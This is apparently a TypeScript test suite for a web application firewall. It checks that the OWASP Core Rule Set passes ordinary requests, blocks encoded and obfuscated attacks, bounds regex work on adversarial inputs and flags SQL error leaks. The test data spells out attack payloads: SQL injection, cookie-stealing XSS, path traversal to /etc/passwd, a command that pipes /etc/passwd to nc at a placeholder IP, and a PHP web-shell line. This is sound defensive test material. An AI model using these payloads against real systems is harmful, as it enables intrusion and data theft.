// The Core Rule Set as Debian packages it (modsecurity-crs 3.3.4), whole: it loads, finds each class of attack in each
// encoding, lets ordinary requests pass, and its work is bounded on texts that stop backtracking engines.

import assert from 'node:assert/strict'
import { before, test } from 'node:test'
import { setImmediate } from 'node:timers/promises'
import { compileSlowly, RuleBook, type RuleSet } from './rules.ts'
import { readRuleFiles } from './sources.ts'
import type { WafBody, WafField, WafJudgement } from './transaction.ts'

const folder = '/usr/share/modsecurity-crs/rules'
let rules: RuleSet

before(async () => {
  const { sources } = await readRuleFiles([folder])
  rules = await compileSlowly(sources, true, () => setImmediate())
})

function bookOf(paranoia: number): RuleBook {
  const settings = { paranoia, inboundThreshold: 5, outboundThreshold: 4, exclude: [], endsAtRefusal: false }
  return new RuleBook(rules, settings)
}

const browser: readonly WafField[] = [
  ['Host', 'shop.example'],
  ['User-Agent', 'Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0'],
  ['Accept', 'text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8'],
  ['Accept-Language', 'en-US,en;q=0.5'],
  ['Accept-Encoding', 'gzip, deflate, br'],
]

function judge(
  book: RuleBook,
  target: string,
  headers: readonly WafField[] = [],
  body: WafBody | null = null,
): WafJudgement & { readonly steps: number } {
  const transaction = book.open()
  const method = body === null ? 'GET' : 'POST'
  const framing: WafField[] =
    body === null
      ? []
      : [
          ['Content-Type', 'application/x-www-form-urlencoded'],
          ['Content-Length', String(body.bytes)],
        ]
  transaction.requestHead({
    method,
    target,
    protocol: 'HTTP/1.1',
    address: '192.0.2.7',
    requestId: 'id',
    headers: [...browser, ...framing, ...headers],
  })
  transaction.requestBody(body)
  const { work } = transaction as unknown as { work: { most: number; left: number } }
  return { ...transaction.judgement, steps: work.most - work.left }
}

function form(...args: readonly WafField[]): WafBody {
  const text = args.map(([name, value]) => `${name}=${encodeURIComponent(value)}`).join('&')
  const rest = { files: [], partHeaders: [], xmlTexts: [], xmlAttributes: [], error: '' }
  return { processor: 'URLENCODED', bytes: text.length, text, args, ...rest }
}

test('loads whole; only what is left out on purpose is named', () => {
  const book = bookOf(1)
  // Those that only jump over a paranoia level are decided when the plan is made.
  assert.ok(bookOf(4).plan.ruleCount > 430, `${bookOf(4).plan.ruleCount} rules`)
  assert.ok(book.plan.ruleCount < bookOf(4).plan.ruleCount)
  assert.deepEqual(rules.loaded.notes.map(note => note.replace(/ in .*/, '')).sort(), [
    '@geoLookup',
    '@rbl',
    'variable GEO',
    'variable IP',
  ])
})

test('ordinary requests pass without a word at paranoia 1', () => {
  const book = bookOf(1)
  const requests: readonly (readonly [string, WafBody | null])[] = [
    ['/', null],
    ['/shop/items?page=2&sort=price&q=red+shoes', null],
    ['/search?q=J%C3%BCrgen%27s%20caf%C3%A9', null],
    ['/login', form(['user', 'alice@example.org'], ['password', 'correct horse battery staple'])],
    ['/post', form(['text', "Dear all,\r\nwe meet at 10:30 in room 5; bring cake & tea. It's fun!"])],
  ]
  for (const [target, body] of requests) {
    const judgement = judge(book, target, [], body)
    assert.deepEqual(judgement.matches, [], target)
    assert.equal(judgement.refused, null)
  }
})

const attacks: Readonly<Record<string, { readonly payload: string; readonly rules: RegExp }>> = {
  sql: { payload: "1' UNION SELECT password FROM users-- ", rules: /^942/ },
  xss: { payload: '<script>alert(document.cookie)</script>', rules: /^941/ },
  traversal: { payload: '../../../../etc/passwd', rules: /^930/ },
  command: { payload: ';cat /etc/passwd|nc 192.0.2.1 80', rules: /^932/ },
  php: { payload: '<?php system($_GET["x"]); ?>', rules: /^933/ },
  java: { payload: 'java.lang.Runtime.getRuntime().exec("id")', rules: /^944/ },
}

const percent = (text: string): string =>
  [...Buffer.from(text, 'latin1')].map(byte => `%${byte.toString(16).padStart(2, '0')}`).join('')
const wide = (text: string): string =>
  Buffer.from(
    [...text]
      .map(one => (one > ' ' && one < '\x7f' ? String.fromCharCode(one.charCodeAt(0) + 0xfee0) : one))
      .join(''),
  ).latin1Slice()

const encodings: Readonly<Record<string, (payload: string) => string>> = {
  percent,
  'double percent': payload => percent(percent(payload)),
  '%u': payload => [...payload].map(one => `%u${one.charCodeAt(0).toString(16).padStart(4, '0')}`).join(''),
  'mixed case': payload =>
    percent([...payload].map((one, index) => (index % 2 === 0 ? one : one.toUpperCase())).join('')),
}

for (const [kind, { payload, rules: wanted }] of Object.entries(attacks)) {
  for (const [encoding, encode] of Object.entries(encodings)) {
    // Linux commands, paths and classes of Java have one case.
    if (encoding === 'mixed case' && /traversal|java|command/.test(kind)) continue
    test(`${kind} in ${encoding} encoding is refused, in the query, a form and a cookie`, () => {
      const book = bookOf(1)
      const encoded = encode(payload)
      const inQuery = judge(book, `/?q=${encoded}`)
      assert.notEqual(inQuery.refused, null, JSON.stringify(inQuery.matches))
      assert.ok(
        inQuery.matches.some(match => wanted.test(match.rule)),
        JSON.stringify(inQuery.matches),
      )
      const decoded = encoding === 'percent' ? payload : encoded
      assert.notEqual(judge(book, '/', [], form(['q', decoded])).refused, null)
      if (kind !== 'traversal') assert.notEqual(judge(book, '/', [['Cookie', `q=${encoded}`]]).refused, null)
    })
  }
}

test('entities, escapes, comments, NUL, overlong and full-width characters hide nothing', () => {
  const book = bookOf(1)
  const hidden: readonly string[] = [
    '<img src=x on&#101;rror=alert(1)>',
    '<a href="j&#x61;vascript:alert(1)">',
    '\\x3cscript\\x3ealert(1)\\x3c/script\\x3e',
    '\\u003cscript\\u003ealert(1)',
    "1'/**/UNION/**/SELECT/**/password/**/FROM/**/users",
    '<scr\0ipt>alert(1)</scr\0ipt>',
    '\xc0\xbcscript\xc0\xbealert(1)',
    wide('<script>alert(1)</script>'),
    '..%c0%af..%c0%af..%c0%afetc/passwd',
    'c^at /e"t"c/pa\'sswd; id',
  ]
  for (const payload of hidden) {
    const judgement = judge(book, `/?q=${percent(payload)}`)
    assert.notEqual(
      judgement.refused,
      null,
      `${JSON.stringify(payload)}: ${JSON.stringify(judgement.matches)}`,
    )
  }
})

test('texts that stop backtracking engines cost steps in proportion to their length, and no more than allowed', () => {
  const book = bookOf(1)
  const base64 = 'QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVphYmNkZWZnaGlqa2xtbm9wcXJzdHV2d3h5ejAxMjM0NTY3ODk'
  for (const unit of [
    ' ',
    'x',
    base64,
    "' or ",
    '<a ',
    '../',
    '\\',
    '(',
    'select ',
    '%25',
    '&#',
    'a=',
    '\0',
    '\xff',
    '{',
    '$',
  ]) {
    const steps = [4096, 16_384].map(length => {
      const text = unit.repeat(Math.ceil(length / unit.length))
      const judgement = judge(book, '/', [], form(['d', text]))
      assert.equal(judgement.exhausted, false, `${JSON.stringify(unit)}: ${judgement.steps} steps`)
      return judgement.steps
    })
    assert.ok(steps[1]! < steps[0]! * 6 + 200_000, `${JSON.stringify(unit)}: ${steps}`)
    assert.ok(steps[1]! < 8_000_000, `${JSON.stringify(unit)}: ${steps}`)
  }
})

test('hostile texts stay within the allowed work at every paranoia level, or are told', () => {
  for (const paranoia of [2, 4]) {
    const book = bookOf(paranoia)
    for (const unit of [' ', 'x', "a' or ", 'a=a ', '(((', 'x,']) {
      const { steps } = judge(book, '/', [], form(['d', unit.repeat(4000).slice(0, 16_384)]))
      assert.ok(steps < 14_000_000, `${paranoia} ${JSON.stringify(unit)}: ${steps}`)
    }
  }
})

test('leaks in answers are found by the outbound rules', () => {
  const transaction = bookOf(1).open()
  transaction.requestHead({
    method: 'GET',
    target: '/',
    protocol: 'HTTP/1.1',
    address: '192.0.2.7',
    requestId: 'id',
    headers: browser,
  })
  transaction.requestBody(null)
  assert.equal(transaction.wantsAnswerBody('text/html; charset=utf-8'), true)
  transaction.answerHead({ status: 500, protocol: 'HTTP/1.1', headers: [['Content-Type', 'text/html']] })
  transaction.answerBody(
    'You have an error in your SQL syntax; check the manual that corresponds to your MySQL server version',
  )
  const { refused, matches } = transaction.judgement
  assert.ok(
    matches.some(match => match.rule.startsWith('951')),
    JSON.stringify(matches),
  )
  assert.equal(refused?.rule, '959100')
})
